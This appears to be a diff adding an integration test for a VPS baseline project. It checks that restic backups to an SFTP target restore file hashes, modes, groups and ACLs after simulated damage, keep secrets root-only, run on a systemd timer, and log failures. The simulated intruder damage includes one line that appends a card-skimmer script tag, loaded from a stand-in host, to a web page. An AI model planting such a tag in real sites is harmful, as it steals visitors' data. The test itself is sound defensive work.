@@ -1,0 +1,211 @@
+# Copyright: vps-baseline contributors
+# SPDX-License-Identifier: MIT
+"""BK-01..BK-03 (issue #13 part 1) on the Debian 12 and 13 cloud hosts converged over SSH by
+site.yml, backing up to op-target (OpenSSH's SFTP only, on op-net) with restic. The admin runs
+the backup and the restore over SSH as `debian` with sudo, as the README says; the damage (a
+deleted directory, a corrupted file, a tampered page, a mode, a group and an ACL changed) is done
+as root over docker exec, as a mistake or an intruder would. The hosts are observed as root over
+docker exec. The files made here are removed at the end and accepted by FIM (test_operator.py's
+audit expects no drift), and the last backup is a successful one (BK-03)."""
+
+import json
+import os
+import shlex
+import time
+from pathlib import Path
+
+import pytest
+import testinfra
+from testlib import PROJECT, ansible_playbook, output_text, ssh_from_controller
+
+HOSTS = {"op-debian12": "10.47.116.12", "op-debian13": "10.47.116.13"}
+EPHEMERAL = Path(os.environ["MOLECULE_EPHEMERAL_DIRECTORY"])
+KEY = EPHEMERAL / "op_controller_key"
+DOCROOT = "/var/www/html"
+DOCS = f"{DOCROOT}/bk-docs"
+PAGE = f"{DOCROOT}/bk-page.html"
+DATA = f"{DOCROOT}/bk-data.bin"
+UPLOAD = f"{DOCROOT}/uploads/bk-upload.txt"
+COMMAND = "/usr/local/sbin/vps-backup"
+STAMP = "/var/lib/vps-baseline/backup/last-success"
+TIMER_DROPIN = "/etc/systemd/system/vps-backup.timer.d/zz-test.conf"
+MARKER = "bk-plaintext-marker-7f3a"
+
+# Every entry below the docroot, never through a link: type, mode, owner, group, sha256 of a
+# file's content and the POSIX ACL xattrs (access and default), as JSON.
+MANIFEST = r"""
+import hashlib, json, os, stat, sys
+root = sys.argv[1]
+out = {}
+def xattr(p, n):
+    try:
+        return os.getxattr(p, n, follow_symlinks=False).hex()
+    except OSError:
+        return None
+for d, dirs, files in os.walk(root):
+    for p in [d] + [os.path.join(d, f) for f in files]:
+        st = os.lstat(p)
+        entry = [stat.filemode(st.st_mode), oct(st.st_mode & 0o7777), st.st_uid, st.st_gid]
+        if stat.S_ISREG(st.st_mode):
+            entry.append(hashlib.sha256(open(p, 'rb').read()).hexdigest())
+        entry += [xattr(p, 'system.posix_acl_access'), xattr(p, 'system.posix_acl_default')]
+        out[os.path.relpath(p, root)] = entry
+print(json.dumps(out, sort_keys=True))
+"""
+
+
+def root(name):
+    return testinfra.get_host(f"docker://{name}")
+
+
+def admin(name, command):
+    """A command as the admin over SSH (debian, sudo), as the README's restore says."""
+    return ssh_from_controller(HOSTS[name], "debian", KEY, f"sudo -n {command}")
+
+
+def manifest(host):
+    return json.loads(host.check_output(f"python3 -c {shlex.quote(MANIFEST)} {DOCROOT}"))
+
+
+def snapshots(name):
+    result = admin(name, f"{COMMAND} snapshots --json")
+    assert result.returncode == 0, result.stderr
+    return json.loads(result.stdout)
+
+
+@pytest.fixture(scope="module")
+def site(request):
+    """A small site on each host: a directory of pages, a page, a binary file, an upload (the
+    web server's writable place: its own ACL), all in the team group as DR-03 wants them."""
+    for name in HOSTS:
+        host = root(name)
+        host.run_expect([0], f"install -d -g workgroup -m 2775 {DOCS} {DOCS}/sub")
+        host.run_expect([0], f"install -d -o www-data -g workgroup -m 2775 {DOCROOT}/uploads")
+        host.run_expect([0], f"for i in $(seq 1 40); do echo \"page $i {MARKER}\" > {DOCS}/p$i.html; done; "
+                             f"echo deep > {DOCS}/sub/deep.html; echo '<h1>{MARKER}</h1>' > {PAGE}; "
+                             f"head -c 200000 /dev/urandom > {DATA}; echo upload > {UPLOAD}; "
+                             f"chgrp -R workgroup {DOCS} {PAGE} {DATA} {UPLOAD}; "
+                             f"find {DOCS} {PAGE} {DATA} {UPLOAD} -type f -exec chmod 0664 {{}} +")
+    time.sleep(1)  # DR-05's watcher settles what it sees
+    yield
+    for name in HOSTS:
+        host = root(name)
+        host.run_expect([0], f"rm -rf {DOCS} {PAGE} {DATA} {DOCROOT}/uploads")
+        time.sleep(1)
+        host.run_expect([0], "/usr/local/sbin/vps-integrity accept")
+        # BK-03: the last backup is a successful one, after the test's changes.
+        assert admin(name, f"{COMMAND} run").returncode == 0
+
+
+@pytest.mark.parametrize("name", sorted(HOSTS))
+def test_bk01_restore_after_damage_gives_back_every_hash_mode_group_and_acl(name, site):
+    host = root(name)
+    before = manifest(host)
+    # The ACL of the upload and of the code are there to be kept (DR-06, docroot_web_writable).
+    assert before["uploads"][5] and before["bk-page.html"][5], before["bk-page.html"]
+    backup = admin(name, f"{COMMAND} run")
+    assert backup.returncode == 0, backup.stdout + backup.stderr
+    first = snapshots(name)[-1]["short_id"]
+
+    # The damage: a deleted directory, a corrupted file, a tampered page, a mode, a group, an ACL.
+    host.run_expect([0], f"rm -rf {DOCS}")
+    host.run_expect([0], f"dd if=/dev/urandom of={DATA} bs=1k count=4 seek=10 conv=notrunc status=none")
+    host.run_expect([0], f"echo '<script src=//skim.example/x.js></script>' >> {PAGE}")
+    host.run_expect([0], f"chgrp root {UPLOAD} && chmod 0600 {UPLOAD}")
+    host.run_expect([0], "python3 -c \"import os; os.removexattr('%s', 'system.posix_acl_access')\"" % f"{DOCROOT}/index.html")
+    assert manifest(host) != before
+
+    # The whole site from the latest snapshot, one command.
+    restored = admin(name, f"{COMMAND} restore")
+    assert restored.returncode == 0, restored.stdout + restored.stderr
+    after = manifest(host)
+    assert sorted(set(before) ^ set(after)) == []
+    assert {p: (before[p], after[p]) for p in before if before[p] != after[p]} == {}
+
+    # One file from an older generation: the tampered page saved in a second snapshot, then the
+    # page from the first one.
+    host.run_expect([0], f"echo tampered >> {PAGE}")
+    assert admin(name, f"{COMMAND} run").returncode == 0
+    assert len(snapshots(name)) >= 2
+    one = admin(name, f"{COMMAND} restore --snapshot {first} --path {PAGE}")
+    assert one.returncode == 0, one.stdout + one.stderr
+    assert manifest(host)["bk-page.html"] == before["bk-page.html"]
+
+
+@pytest.mark.parametrize("name", sorted(HOSTS))
+def test_bk01_secrets_root_only_and_nothing_readable_on_the_target(name, site):
+    host = root(name)
+    for path in ("/etc/vps-backup/password", "/etc/vps-backup/id_target"):
+        f = host.file(path)
+        assert (f.user, f.group, f.mode) == ("root", "root", 0o600), path
+    assert host.file("/etc/vps-backup").mode == 0o700
+    assert host.run("runuser -u www-data -- cat /etc/vps-backup/password").rc != 0
+    # Nothing of the site nor the password in clear on the target, nor in the journal.
+    target = testinfra.get_host("docker://op-target")
+    found = target.run(f"grep -rl -e {MARKER} -e op-test-repository-password /srv/backup/{name}")
+    assert found.rc == 1 and found.stdout == "", found.stdout
+    assert target.file(f"/srv/backup/{name}/config").exists
+    journal = host.check_output("journalctl --no-pager -t vps-backup")
+    assert "op-test-repository-password" not in journal
+
+
+def test_bk02_the_timer_fires_and_saves(site):
+    """The interval shortened to 15 s by a drop-in (the test's only change to the unit): the
+    timer starts the service by itself, a new snapshot is made and the stamp moves."""
+    before = {}
+    for name in HOSTS:
+        host = root(name)
+        before[name] = (host.file(STAMP).content_string, len(snapshots(name)))
+        host.run_expect([0], f"mkdir -p {os.path.dirname(TIMER_DROPIN)} && printf '%s\\n' '[Timer]' "
+                             f"'OnCalendar=' 'OnCalendar=*:*:0/15' 'RandomizedDelaySec=0' 'AccuracySec=1s' > {TIMER_DROPIN} "
+                             "&& systemctl daemon-reload && systemctl restart vps-backup.timer")
+    try:
+        deadline = time.monotonic() + 60
+        fired = {}
+        while time.monotonic() < deadline and len(fired) < len(HOSTS):
+            time.sleep(3)
+            for name in HOSTS:
+                if name not in fired and root(name).file(STAMP).content_string != before[name][0]:
+                    fired[name] = True
+        assert sorted(fired) == sorted(HOSTS), "the timer did not start a successful backup within 60 s"
+    finally:
+        for name in HOSTS:
+            root(name).run_expect([0], f"rm -f {TIMER_DROPIN} && systemctl daemon-reload && systemctl restart vps-backup.timer")
+    for name in HOSTS:
+        host = root(name)
+        # Started by the timer (its last trigger), and a new snapshot on the target.
+        trigger = host.check_output("systemctl show --property=LastTriggerUSec --value vps-backup.timer")
+        assert trigger and trigger != "n/a", trigger
+        journal = host.check_output("journalctl --no-pager -t vps-backup -n 5")
+        assert "backup done in" in journal, journal
+        assert host.service("vps-backup.timer").is_enabled
+        # The drop-in is gone: the inventory's schedule again.
+        assert "daily" in host.check_output("systemctl cat vps-backup.timer")
+        assert "0/15" not in host.check_output("systemctl cat vps-backup.timer")
+
+
+def test_bk03_failed_backup_in_the_journal_and_drift_in_the_audit(site):
+    """The target refuses the key: the service fails, the journal says so, the audit of BK-03
+    exits 2 with BK-03 drift and site.yml --tags bk-03 backs up again once the target is back."""
+    target = testinfra.get_host("docker://op-target")
+    keys = "/home/vpsbackup/.ssh/authorized_keys"
+    target.run_expect([0], f"mv {keys} {keys}.off")
+    try:
+        for name in HOSTS:
+            host = root(name)
+            assert host.run("systemctl start vps-backup.service").rc != 0
+            assert host.run("systemctl is-failed vps-backup.service").stdout.strip() == "failed"
+            journal = host.check_output("journalctl --no-pager -t vps-backup -n 30")
+            assert "Permission denied" in journal or "unable to open" in journal or "error" in journal.lower(), journal
+        audit = ansible_playbook(PROJECT / "playbooks/audit.yml", "baseline", check=True, tags=["bk-03"])
+        assert audit.returncode == 2, audit.stdout[-3000:]
+        text = output_text(audit)
+        for name in HOSTS:
+            assert f"Drift on {name}: BK-03." in text, text[-3000:]
+        assert "failed (status" in text
+    finally:
+        target.run_expect([0], f"mv {keys}.off {keys}")
+    site = ansible_playbook(PROJECT / "playbooks/site.yml", "baseline", tags=["bk-03"])
+    assert site.returncode == 0, site.stdout[-3000:]
+    for name in HOSTS:
+        assert root(name).run("systemctl is-failed vps-backup.service").stdout.strip() != "failed"
